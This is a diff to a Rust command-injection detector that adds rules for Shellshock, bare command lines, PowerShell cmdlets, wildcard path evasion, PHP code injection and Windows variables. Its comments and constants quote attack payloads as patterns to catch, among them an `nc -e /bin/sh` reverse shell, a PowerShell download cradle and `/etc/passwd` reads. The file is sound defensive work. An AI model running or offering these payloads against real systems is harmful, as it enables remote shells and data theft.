@@ -15,8 +15,29 @@
 //! - `cmdi.ifs` (low+): `${IFS}` / `$IFS$9`, the classic space substitute.
 //! - `cmdi.brace_expansion` (medium+): `{cat,/etc/passwd}`.
 //! - `cmdi.reverse_shell` (low+): `/dev/tcp/`, `/dev/udp/`.
+//! - `cmdi.shellshock` (low+): a value starting with a bash function definition `() {`.
+//! - `cmdi.command_line` (medium+): the value itself is a command line, without a separator:
+//!   a command of `vocab/commands.txt` (or `extra.commands`) at its start with shell-looking
+//!   arguments (`uname -a`, `nc -e /bin/sh 10.0.0.1 4444`, `/bin/cat /etc/passwd`), or a
+//!   command of the strong list followed by at most two short arguments (`nslookup evil.example`).
+//! - `cmdi.powershell` (medium+): a PowerShell cmdlet of the CRS list (`Invoke-Expression`,
+//!   `Get-ChildItem`, ...) or an alias/.NET call of `vocab/cmdlets-extra.txt` as a word, with
+//!   an argument, pipe, `(` or the end of the value after it (`iex(New-Object Net.WebClient)`).
+//! - `cmdi.glob_path` (medium+): a path spelled with wildcards standing for its letters, as
+//!   evasion does (`/???/c?t /e??/p??s??`, `/bin/ca*`): a segment of 3+ bytes with 2+ `?`/`*`
+//!   and no more than 4 letters.
+//! - `cmdi.php_code` (medium+): PHP code injection, counted with command execution as
+//!   wapiti and CRS do: a quote or statement end, `;` or `.`, then a PHP call that runs
+//!   commands or ends the script (`';exit(md5('x'));//`), or a `data:` URI of base64 PHP.
+//! - `cmdi.windows_variable` (medium+): `%COMSPEC%`, `%SYSTEMROOT%`, `%WINDIR%` and other
+//!   Windows environment variables a `cmd` line expands.
+//!
+//! Shell evasion inside a word (`c\a\t`, `w'h'o'am'i`, `c$@at`, `wh${x}oami`) is folded
+//! before the command-name lookup: quotes, backslashes, `$@`, `$*` and `${...}` of an unset
+//! short variable are dropped from the name.
 
 use super::text::{at, find_ci, is_ws, lower_at, starts_ci, word_in, ByteSet, Words};
+use super::vocab::{PatternSet, Vocab, Vocabularies};
 use super::Sensitivity;
 
 const STRONG: Words = Words::new(&[
@@ -171,6 +192,32 @@ fn name_at(s: &[u8], start: usize) -> Option<(bool, usize, usize)> {
             k += 1;
             continue;
         }
+        // `c$@at`, `c$*at`, `wh${x}oami`, `w$9hoami`: empty expansions inside a word.
+        if b == b'$' && n > 0 && quotes < 8 {
+            match at(s, k + 1) {
+                Some(b'@' | b'*') => {
+                    quotes += 1;
+                    k += 2;
+                    continue;
+                }
+                Some(c) if c.is_ascii_digit() => {
+                    quotes += 1;
+                    k += 2;
+                    continue;
+                }
+                Some(b'{') => {
+                    let close = s
+                        .get(k + 2..(k + 10).min(s.len()))
+                        .and_then(|t| t.iter().position(|&c| c == b'}'));
+                    if let Some(c) = close {
+                        quotes += 1;
+                        k += 3 + c;
+                        continue;
+                    }
+                }
+                _ => {}
+            }
+        }
         if !is_name(b) || n == buf.len() {
             break;
         }
@@ -290,6 +337,12 @@ fn chained(s: &[u8], sens: Sensitivity) -> bool {
         let Some(&b) = s.get(i) else {
             return false;
         };
+        // A doubled backtick is a reStructuredText / markdown literal (``python -m x``),
+        // never a shell substitution.
+        if b == b'`' && (at(s, i + 1) == Some(b'`') || (i > 0 && at(s, i - 1) == Some(b'`'))) {
+            i += 1;
+            continue;
+        }
         let sep_len = match b {
             b';' | b'\n' | b'`' => 1,
             b'|' | b'&' => {
@@ -342,6 +395,241 @@ fn brace_expansion(s: &[u8]) -> bool {
     false
 }
 
+/// PHP functions that run commands or end a script, as injected code calls them.
+const PHP_CALLS: Words = Words::new(&[
+    b"exit",
+    b"die",
+    b"eval",
+    b"assert",
+    b"system",
+    b"passthru",
+    b"shell_exec",
+    b"exec",
+    b"popen",
+    b"proc_open",
+    b"phpinfo",
+    b"print_r",
+    b"var_dump",
+    b"file_get_contents",
+    b"file_put_contents",
+    b"include",
+    b"require",
+    b"base64_decode",
+    b"create_function",
+    b"call_user_func",
+    b"preg_replace",
+    b"pcntl_exec",
+]);
+
+/// PHP code injection, which wapiti and CRS count with command execution: a quote breakout
+/// or a statement end, then `;` or `.` and a PHP call (`';exit(md5('x'));//`,
+/// `".system('id').`), or a `data:` URI carrying base64 PHP (`PD9waHA` is `<?php`).
+fn php_code(s: &[u8]) -> bool {
+    if let Some(p) = find_ci(s, b"data:", 0) {
+        if find_ci(s, b"base64,pd9wah", p).is_some() {
+            return true;
+        }
+    }
+    if !s.contains(&b'(') {
+        return false;
+    }
+    for (i, &b) in s.iter().enumerate() {
+        if b != b';' && b != b'.' {
+            continue;
+        }
+        let before_ok =
+            i == 0 || matches!(at(s, i - 1), Some(b'\'' | b'"' | b')')) || (b == b';' && i <= 2);
+        if !before_ok {
+            continue;
+        }
+        let j = super::text::skip_ws(s, i + 1);
+        let n = s.get(j..).map_or(0, |t| {
+            t.iter()
+                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
+                .count()
+        });
+        if n > 0
+            && s.get(j..j + n).is_some_and(|w| PHP_CALLS.contains_word(w))
+            && at(s, super::text::skip_ws(s, j + n)) == Some(b'(')
+        {
+            return true;
+        }
+    }
+    false
+}
+
+/// `() {` at the start of the value: bash imported it as a function definition (CVE-2014-6271).
+fn shellshock(s: &[u8]) -> bool {
+    let i = super::text::skip_ws(s, 0);
+    at(s, i) == Some(b'(') && at(s, i + 1) == Some(b')') && {
+        let j = super::text::skip_ws(s, i + 2);
+        at(s, j) == Some(b'{')
+    }
+}
+
+fn cmdlets(v: &Vocabularies) -> &PatternSet {
+    &v.cmdlets
+}
+
+/// The value is itself a command line: a known command at its start (after blanks and an
+/// opening quote), then arguments that look like a shell's.
+fn command_line(s: &[u8], v: Vocab<'_>) -> bool {
+    let mut i = super::text::skip_ws(s, 0);
+    while matches!(at(s, i), Some(b'\'' | b'"')) && i < 2 {
+        i += 1;
+    }
+    let Some((strong, name_start, end)) = command_at(s, i) else {
+        return vocab_command_line(s, i, v);
+    };
+    if shell_args(s, name_start, end, false) {
+        return true;
+    }
+    // A strong command name and a short argument list: `nslookup evil.example`, `uname -a`.
+    strong && short_args(s, end)
+}
+
+fn commands(v: &Vocabularies) -> &PatternSet {
+    &v.commands
+}
+
+/// A command of `vocab/commands.txt` or the policy's `extra.commands` at `i` (one the
+/// built-in lists above do not know: `rundll32`, `mshta`, ...), with arguments.
+fn vocab_command_line(s: &[u8], i: usize, v: Vocab<'_>) -> bool {
+    let end = s
+        .get(i..)
+        .map_or(i, |t| i + t.iter().take_while(|&&b| is_name(b)).count());
+    end > i
+        && s.get(i..end).is_some_and(|w| v.contains(commands, w))
+        && (end == s.len() || short_args(s, end) || shell_args(s, i, end, false))
+}
+
+/// At most two arguments of command-line shape (no sentence: nothing but names, paths,
+/// options and addresses) up to the end of the value.
+fn short_args(s: &[u8], end: usize) -> bool {
+    let Some(rest) = s.get(end..) else {
+        return false;
+    };
+    if !rest.first().is_some_and(|&b| is_ws(b)) {
+        return false;
+    }
+    let mut args = 0;
+    for w in rest.split(|&b| is_ws(b)).filter(|w| !w.is_empty()) {
+        args += 1;
+        let shaped = w.iter().all(|&b| {
+            b.is_ascii_alphanumeric()
+                || matches!(b, b'.' | b'-' | b'_' | b'/' | b':' | b'\\' | b'=')
+        }) && w
+            .iter()
+            .any(|&b| matches!(b, b'.' | b'-' | b'/' | b':' | b'\\'));
+        if args > 2 || !shaped {
+            return false;
+        }
+    }
+    args > 0
+}
+
+/// A PowerShell cmdlet or alias as a word, used as code. Only words holding a `-`
+/// (`Invoke-Expression`, `-EncodedCommand`) or standing before `(` or a blank and `(`/`$`
+/// (`iex(`, `iex $x`, `.DownloadString(`) are looked up, so prose words never are.
+fn powershell(s: &[u8], v: Vocab<'_>) -> Option<&'static str> {
+    let is_word = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_');
+    let mut i = 0;
+    while i < s.len() {
+        if !at(s, i).is_some_and(is_word) {
+            i += 1;
+            continue;
+        }
+        let start = i;
+        while at(s, i).is_some_and(is_word) {
+            i += 1;
+        }
+        let word = s.get(start..i).unwrap_or_default();
+        let next = at(s, i);
+        let after = super::text::skip_ws(s, i);
+        let called = next == Some(b'(') || (after > i && matches!(at(s, after), Some(b'(' | b'$')));
+        let hyphen = word.iter().skip(1).any(|&b| b == b'-') || word.first() == Some(&b'-');
+        if !(hyphen || called) || word.len() < 3 {
+            continue;
+        }
+        // `(New-Object Net.WebClient).DownloadString(`: also the part after the last dot.
+        let last = word
+            .iter()
+            .rposition(|&b| b == b'.')
+            .and_then(|d| word.get(d + 1..))
+            .unwrap_or(word);
+        let known = v.contains(cmdlets, word) || (last.len() >= 3 && v.contains(cmdlets, last));
+        if !known {
+            continue;
+        }
+        let code_after = match next {
+            None => true,
+            Some(b'(' | b'|' | b';' | b')' | b'\'' | b'"') => true,
+            Some(b) if is_ws(b) => {
+                matches!(
+                    at(s, after),
+                    Some(b'-' | b'$' | b'(' | b'|' | b'\'' | b'"' | b'[')
+                ) || (hyphen && at(s, after).is_none())
+            }
+            _ => false,
+        };
+        if code_after {
+            return Some("cmdi.powershell");
+        }
+    }
+    None
+}
+
+/// Windows environment variables that only a `cmd` line expands.
+const WINDOWS_VARIABLES: Words = Words::new(&[
+    b"%comspec%",
+    b"%systemroot%",
+    b"%windir%",
+    b"%systemdrive%",
+    b"%userprofile%",
+    b"%programfiles%",
+    b"%appdata%",
+    b"%localappdata%",
+    b"%temp%",
+    b"%tmp%",
+    b"%homepath%",
+    b"%computername%",
+    b"%username%",
+    b"%psmodulepath%",
+    b"%programdata%",
+    b"%allusersprofile%",
+    b"%public%",
+]);
+
+fn windows_variable(s: &[u8]) -> bool {
+    WINDOWS_VARIABLES.occurs_in(s)
+}
+
+/// A path segment of wildcards standing for letters: `/???/c?t`, `/e??/p?ss??`, `/bin/ca*`.
+fn glob_path(s: &[u8]) -> bool {
+    let mut wild_segments = 0;
+    let mut paths = 0;
+    for (k, seg) in s.split(|&b| b == b'/' || b == b'\\').enumerate() {
+        if k == 0 {
+            continue;
+        }
+        paths += 1;
+        let seg = seg
+            .iter()
+            .position(|&b| is_ws(b))
+            .and_then(|p| seg.get(..p))
+            .unwrap_or(seg);
+        let wild = seg.iter().filter(|&&b| b == b'?' || b == b'*').count();
+        let letters = seg.iter().filter(|b| b.is_ascii_alphanumeric()).count();
+        let other = seg.len() - wild - letters;
+        if seg.len() >= 3 && wild >= 2 && letters <= 4 && other == 0 {
+            wild_segments += 1;
+        }
+    }
+    // One segment like `???` could be a placeholder in a URL template; a path of them is not.
+    wild_segments >= 2
+        || (wild_segments == 1 && paths >= 2 && s.contains(&b'/') && s.first() == Some(&b'/'))
+}
+
 /// `/dev/tcp/` or `/dev/udp/` anywhere: one search for their common start (paths and URLs,
 /// screened on every request, hold slashes).
 fn reverse_shell(s: &[u8]) -> bool {
@@ -356,7 +644,37 @@ fn reverse_shell(s: &[u8]) -> bool {
 }
 
 /// The rule id of the first command-injection pattern in `s` (already decoded), if any.
-pub fn detect(s: &[u8], mask: u32, sens: Sensitivity) -> Option<&'static str> {
+pub fn detect(s: &[u8], mask: u32, sens: Sensitivity, v: Vocab<'_>) -> Option<&'static str> {
+    use super::decode as d;
+    let medium = sens >= Sensitivity::Medium;
+    if mask & d::PAREN != 0 && shellshock(s) {
+        return Some("cmdi.shellshock");
+    }
+    if let Some(r) = classic(s, mask, sens) {
+        return Some(r);
+    }
+    if medium && mask & (d::SPACE | d::PAREN | d::PIPE | d::SEMI | d::DOLLAR) != 0 {
+        if let Some(r) = powershell(s, v) {
+            return Some(r);
+        }
+    }
+    if medium && mask & d::PERCENT != 0 && windows_variable(s) {
+        return Some("cmdi.windows_variable");
+    }
+    if medium && mask & d::SLASH != 0 && s.iter().any(|&b| b == b'?' || b == b'*') && glob_path(s) {
+        return Some("cmdi.glob_path");
+    }
+    if medium && mask & (d::SPACE | d::SLASH | d::NEWLINE) != 0 && command_line(s, v) {
+        return Some("cmdi.command_line");
+    }
+    if medium && mask & (d::PAREN | d::COLON) != 0 && php_code(s) {
+        return Some("cmdi.php_code");
+    }
+    None
+}
+
+/// The rules of the first round: separators, `$IFS`, reverse shells, brace expansion.
+fn classic(s: &[u8], mask: u32, sens: Sensitivity) -> Option<&'static str> {
     use super::decode as d;
     if mask
         & (d::SEMI | d::PIPE | d::AMP | d::DOLLAR | d::NEWLINE | d::BACKTICK | d::BRACE | d::SLASH)
@@ -390,7 +708,15 @@ mod tests {
     use super::*;
 
     fn check(s: &str, sens: Sensitivity) -> Option<&'static str> {
-        detect(s.as_bytes(), scan(s.as_bytes()), sens)
+        detect(s.as_bytes(), scan(s.as_bytes()), sens, v())
+    }
+
+    fn v() -> Vocab<'static> {
+        static EMPTY: std::sync::OnceLock<Vocabularies> = std::sync::OnceLock::new();
+        Vocab {
+            base: crate::screening::vocab::builtin(),
+            extra: EMPTY.get_or_init(Vocabularies::default),
+        }
     }
 
     #[test]
